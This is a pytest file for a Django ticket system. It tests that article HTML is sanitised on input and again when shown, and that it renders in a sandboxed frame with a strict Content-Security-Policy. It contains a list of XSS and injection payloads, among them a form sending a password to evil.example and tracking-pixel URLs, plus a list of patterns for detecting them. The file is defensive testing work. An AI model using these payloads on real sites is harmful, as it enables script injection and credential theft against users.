"""HTML in articles: cleaned on the way in and when shown, in a frame that runs and loads nothing (docs/tickets.md)."""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from tickets.html import MAX_LENGTH, sanitise, text_of
from tickets.models import Article

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

HARMFUL = [
    "<script>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src=x>',
    '<img src="https://tracker.example/who.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="https://tracker.example/a.gif 1x" src="x">',
    '<table background="https://tracker.example/a.gif"><tr><td>x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<div id="dialog" class="modal" name="csrf">x</div>',
]
TELLING = (
    "<script", "onclick", "onerror=", "onload", "javascript:", "vbscript:", "data:text", "<svg", "<style", "style=",
    "<link", "<meta", "<base", "<form", "<input", "<iframe", "<object", "<embed", "tracker.example", "svg+xml",
    "srcset", "background", "<template", "class=", "id=", "name=",
)  # fmt: skip


@pytest.mark.parametrize("html", HARMFUL)
def test_nothing_harmful_is_left(html):
    clean = sanitise(html)
    assert [sign for sign in TELLING if sign in clean.lower()] == []
    assert sanitise(clean) == clean


def test_what_a_mail_is_made_of_stays():
    html = f'<h1>Hi</h1><p>a <b>b</b> <a href="https://x.example/?a=1&amp;b">c</a></p><img src="{PIXEL}" alt="dot">'
    clean = sanitise(html)
    assert '<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer nofollow">c</a>' in clean
    assert f'src="{PIXEL}"' in clean
    assert "<h1>Hi</h1>" in clean


def test_the_text_says_the_same():
    html = "<h1>Hello</h1><p>1 &lt; 2<br>and so on</p><ul><li>one</li><li>two</li></ul>"
    assert text_of(sanitise(html)) == "Hello\n1 < 2\nand so on\none\ntwo"


def test_an_article_keeps_both_and_mail_speaks_text(ticket, cora):
    article = ticket.follow_up("", by=cora, html="<p>It <b>works</b>.</p><script>alert(1)</script>")
    assert article.html == "<p>It <b>works</b>.</p>"
    assert article.body == "It works."


def test_html_of_nothing_is_refused(ticket, uma):
    with pytest.raises(ValidationError, match="Write something"):
        ticket.note("", by=uma, html="<script>alert(1)</script>")


def test_too_long_is_refused(ticket, uma):
    with pytest.raises(ValidationError, match="too long"):
        ticket.note("", by=uma, html="x" * (MAX_LENGTH + 1))


def test_an_edit_of_the_text_ends_the_html_and_keeps_the_version(ticket, uma):
    article = ticket.note("", by=uma, html="<p>old</p>")
    ticket.edit_article(article, uma, body="new")
    article.refresh_from_db()
    assert (article.body, article.html) == ("new", "")
    assert article.versions.get().html == "<p>old</p>"


@pytest.fixture
def framed(ticket, uma):
    """The address of an internal article that holds what no cleaning saw, as if by an older version of it."""
    article = ticket.note("", by=uma, html="<p>Look</p>")
    Article.objects.filter(pk=article.pk).update(html="<p>Look</p><script>alert(1)</script>")
    return reverse("article_html", args=[ticket.number, article.number])


def test_the_frame_is_cleaned_again_and_shut_in(framed, uma, signed_in):
    answer = signed_in(uma).get(framed)
    assert "<p>Look</p>" in answer.text
    assert "<script" not in answer.text
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
    assert "script" not in policy.replace("allow-scripts", "script")
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "private" in answer.headers["Cache-Control"]


@pytest.mark.parametrize("login", ["cora", "bo", "ray"])
def test_who_may_not_read_the_article_gets_no_frame(framed, everyone, login, signed_in):
    assert signed_in(everyone[login]).get(framed).status_code == 404


def test_an_article_of_text_has_no_frame(ticket, uma, signed_in):
    assert signed_in(uma).get(reverse("article_html", args=[ticket.number, 1])).status_code == 404


def test_the_zoom_window_shows_it_in_a_sandbox(ticket, cora, uma, signed_in):
    ticket.follow_up("", by=cora, html="<p>It <b>works</b>.</p>")
    page = signed_in(uma).get(ticket.get_absolute_url()).text
    assert '<iframe class="article-html" sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
    assert "It <b>works" not in page
    assert "It works." in page
